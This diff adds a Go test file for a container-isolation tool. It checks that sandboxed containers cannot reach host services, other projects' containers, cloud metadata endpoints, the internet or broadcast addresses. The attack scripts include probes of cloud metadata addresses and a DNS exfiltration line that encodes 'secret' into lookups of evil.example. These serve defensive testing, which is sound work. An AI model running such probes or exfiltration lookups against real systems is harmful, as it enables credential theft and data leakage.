@@ -1,0 +1,246 @@
+package hostile
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+)
+
+// host is what listens on this machine: a server on every address that answers
+// with a word, the same behind a published port of another container, and an
+// ear for datagrams.
+type host struct {
+	word       string
+	port, udp  int
+	dial       string // every address at which the servers could be met, for the attacker
+	shout      string // the same for datagrams
+	everybody  string // where datagrams go to more than one
+	datagrams  atomic.Int64
+	lastGram   atomic.Value
+	foreignBox string
+}
+
+// listen starts them.
+func listen(t *testing.T, image string) *host {
+	t.Helper()
+	h := &host{word: "word-of-the-host-" + strings.ToLower(newCanaries().Host)}
+	l, err := net.Listen("tcp", ":0") // both families
+	if err != nil {
+		t.Fatal(err)
+	}
+	h.port = l.Addr().(*net.TCPAddr).Port
+	web := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, h.word) })}
+	go web.Serve(l)
+	t.Cleanup(func() { web.Close() })
+	ear, err := net.ListenPacket("udp", ":0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ear.Close() })
+	h.udp = ear.LocalAddr().(*net.UDPAddr).Port
+	go func() {
+		for buf := make([]byte, 512); ; {
+			n, from, err := ear.ReadFrom(buf)
+			if err != nil {
+				return
+			}
+			h.datagrams.Add(1)
+			h.lastGram.Store(fmt.Sprintf("%q from %v", buf[:n], from))
+		}
+	}()
+	published := h.container(t, image)
+	for _, at := range addresses(t) {
+		h.dial += fmt.Sprintf("%s %s ", net.JoinHostPort(at, fmt.Sprint(h.port)), net.JoinHostPort(at, published))
+		h.shout += net.JoinHostPort(at, fmt.Sprint(h.udp)) + " "
+	}
+	for _, all := range []string{"255.255.255.255", "224.0.0.1", "224.0.0.251", "239.255.255.250"} {
+		h.everybody += net.JoinHostPort(all, fmt.Sprint(h.udp)) + " "
+	}
+	h.dial += h.foreignBox + ":3000 "
+	return h
+}
+
+// container is another project's: on the engine's usual network, with a port published.
+func (h *host) container(t *testing.T, image string) (port string) {
+	t.Helper()
+	id := docker(t, "run", "-d", "--label", "abl.project=test-hostile", "-p", "3000", image,
+		"node", "-e", "require('http').createServer((q, r) => r.end('"+h.word+"')).listen(3000)")
+	t.Cleanup(func() { _ = exec.Command("docker", "rm", "-f", id).Run() })
+	h.foreignBox = docker(t, "inspect", "--format", "{{.NetworkSettings.IPAddress}}", id)
+	_, port, err := net.SplitHostPort(strings.Fields(docker(t, "port", id, "3000"))[0])
+	if err != nil {
+		t.Fatal(err)
+	}
+	for range 200 { // until it listens
+		if c, err := net.Dial("tcp", "127.0.0.1:"+port); err == nil {
+			c.Close()
+			if resp, err := http.Get("http://127.0.0.1:" + port); err == nil {
+				resp.Body.Close()
+				return port
+			}
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	t.Fatal("the other container does not answer")
+	return ""
+}
+
+// addresses are all of this machine's, and the names and places by which
+// programs know a host or a cloud.
+func addresses(t *testing.T) []string {
+	t.Helper()
+	own, err := net.InterfaceAddrs()
+	if err != nil {
+		t.Fatal(err)
+	}
+	all := []string{"host.docker.internal", "gateway.docker.internal", "172.17.0.1", "fe80::1%eth0"}
+	for _, a := range own {
+		if n, ok := a.(*net.IPNet); ok && !n.IP.IsLoopback() {
+			at := n.IP.String()
+			if n.IP.IsLinkLocalUnicast() && n.IP.To4() == nil {
+				at += "%eth0"
+			}
+			all = append(all, at)
+		}
+	}
+	return all
+}
+
+// networkAttacks are about everything that a container must not reach. What
+// counts is an answer: some networks accept every connection.
+func networkAttacks(h *host) []attack {
+	return []attack{
+		{id: "E01", by: "both", aside: true, what: "servers of the host at the addresses of the container's own networks", script: fmt.Sprintf(`$A neighbours %d 2375 2376 22 53 111 631`, h.port)},
+		{id: "E02", by: "both", aside: true, what: "servers of the host at each of its own addresses", script: "$A dials " + h.dial},
+		{id: "E11", by: "both", aside: true, what: "another project's container, and its published port", script: fmt.Sprintf("$A dials %s:3000; $A dials %s", h.foreignBox, h.dial)},
+		{id: "E03", by: "both", aside: true, what: "IPv6", script: `
+[ -z "$(grep -v ' lo$' /proc/net/if_inet6 2>/dev/null)" ] && held 'no address' || hole "$(cat /proc/net/if_inet6)"
+$A dials '[2606:4700:4700::1111]:80' '[2001:4860:4860::8888]:53' '[fd00:ec2::254]:80' '[fe80::1%eth0]:80'`},
+		{id: "E04", by: "both", aside: true, what: "what a cloud tells its machines", script: "$A dials 169.254.169.254:80 169.254.170.2:80 100.100.100.200:80 168.63.129.16:80 metadata.google.internal:80 metadata:80"},
+		{id: "E04-out", by: "both", aside: true, what: "the internet, by address and by name", script: `
+$A dials 1.1.1.1:80 8.8.8.8:53 9.9.9.9:443 example.com:80 example.org:443
+empty curl -s -m 3 http://1.1.1.1/ http://example.com/
+empty sh -c 'echo | timeout 3 openssl s_client -connect 1.1.1.1:443 | grep BEGIN'`},
+		{id: "E05", by: "both", aside: true, what: "data in questions for names", script: `
+for n in $(printf secret | base64 | tr -d =).evil.example example.com localhost.evil.example metadata.google.internal _x._tcp.evil.example; do
+  empty getent hosts $n; done
+grep -v '^nameserver 127[.]0[.]0[.]' /etc/resolv.conf | grep nameserver && hole 'a resolver of the host' || held resolver
+empty sh -c 'python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(bytes.fromhex(\"123401000001000000000000076578616d706c6503636f6d0000010001\"), (\"8.8.8.8\", 53)); print(s.recv(100))"'`},
+		{id: "E05-udp", by: "both", aside: true, what: "datagrams to the host", script: "$A shouts " + h.shout + h.everybody},
+		{id: "E08", by: "both", aside: true, what: "the networks of other roles and projects", script: "$A strangers 3000 7070 8080 9100"},
+		{id: "E09", by: "both", aside: true, what: "listening for others on every port", script: `
+python3 -c "import socket
+for p in (80, 443): socket.create_server(('0.0.0.0', p))" && held 'listens, where nobody comes'`},
+	}
+}
+
+func TestNetworksHold(t *testing.T) {
+	s := newScene(t, usual+nodeApp)
+	h := listen(t, s.toolsImage())
+	controlOfNetworks(t, s, h)
+	s.plays(t, append(networkAttacks(h), attack{id: "E08-ports", by: "verifier", aside: true, what: "every port of the app's container", script: `
+open=$($A ports app); [ "$open" = "3000 7070 " ] && held "$open" || hole "open: $open"`}))
+	if n := h.datagrams.Load(); n != 0 {
+		t.Errorf("E05-udp: %d datagrams came to the host, the last %v", n, h.lastGram.Load())
+	}
+}
+
+// Group E, the app: it phones nobody.
+func TestAppsNetworkHolds(t *testing.T) {
+	s := newScene(t, usual)
+	h, image := listen(t, s.toolsImage()), s.service(t)
+	s.Write(".abl/config.yaml", settings+usual+`
+app:
+  command: sh attack.sh
+  port: 3000
+  ready: {path: /, timeout: 90s}
+  services: {db: {image: "`+image+`", env: {SHOUT: "`+strings.TrimSpace(h.everybody)+`"}, ready: {port: 4000}}}
+`)
+	id := docker(t, "run", "-d", "--label", "abl.project=test-hostile", "-e", "SHOUT="+h.everybody, image)
+	t.Cleanup(func() { docker(t, "rm", "-f", id) })
+	for range 600 {
+		if h.datagrams.Load() > 0 {
+			break
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	if h.datagrams.Swap(0) == 0 {
+		t.Error("no datagram came from the service's image in a usual container")
+	}
+	attacks := networkAttacks(h)
+	s.script(builds(write("attack.sh", inOneScript(attacks))), verifies())
+	s.play(0)
+	log := s.Read(".abl/logs/calls/p1-verify-1.1/app/app.log")
+	for _, a := range attacks {
+		t.Run("E10-"+a.id, func(t *testing.T) { held(t, a, "app", log) })
+	}
+	t.Run("E10-service", func(t *testing.T) {
+		if s.Read(".abl/logs/calls/p1-verify-1.1/app/app.log") == "" {
+			t.Error("the app, whose database shouts first, was not up")
+		}
+	})
+	if n := h.datagrams.Load(); n != 0 {
+		t.Errorf("%d datagrams came to the host, the last %v", n, h.lastGram.Load())
+	}
+}
+
+// controlOfNetworks shows the same attacks at work: from a usual container, and
+// on a network that is merely called internal.
+func controlOfNetworks(t *testing.T, s *scene, h *host) {
+	t.Helper()
+	name := fmt.Sprintf("abl-test-hostile-%d", os.Getpid())
+	docker(t, "network", "create", "--internal", "--label", "abl.project=test-hostile", name)
+	t.Cleanup(func() { _ = exec.Command("docker", "network", "rm", name).Run() })
+	kinds := map[string][]string{"a usual container": nil, "an internal network": {"--network", name}}
+	var asked sync.WaitGroup
+	for kind, args := range kinds {
+		asked.Go(func() {
+			out, err := weak(s, args, fmt.Sprintf("./attacker dials %s & ./attacker neighbours %d & wait", h.dial, h.port))
+			if err != nil || strings.Count(out, h.word) < 2 {
+				t.Errorf("the attack does not work from %s, so that it holds shows nothing: %v: %s", kind, err, out)
+			}
+		})
+	}
+	asked.Wait()
+	for kind, args := range kinds {
+		for what, at := range map[string]string{"one": h.shout, "everybody": h.everybody} {
+			h.datagrams.Store(0)
+			s.weakly(t, args, "./attacker shouts "+at)
+			if h.datagrams.Load() == 0 {
+				t.Errorf("no datagram to %s came from %s", what, kind)
+			}
+		}
+	}
+	h.datagrams.Store(0)
+}
+
+// weakly runs a command in a container that has the attacker and no more defences
+// than the engine gives by itself.
+func (s *scene) weakly(t *testing.T, options []string, script string) string {
+	t.Helper()
+	out, err := weak(s, options, script)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return out
+}
+
+func weak(s *scene, options []string, script string) (string, error) {
+	var errs bytes.Buffer
+	args := append([]string{"run", "--rm", "--label", "abl.project=test-hostile", "-v", s.Dir + "/src:/work", "-w", "/work"}, options...)
+	cmd := exec.Command("docker", append(args, s.toolsImage(), "sh", "-c", script)...)
+	cmd.Stderr = &errs
+	out, err := cmd.Output()
+	if err != nil {
+		err = fmt.Errorf("docker %s: %w: %s", strings.Join(args, " "), err, errs.String())
+	}
+	return string(out), err
+}
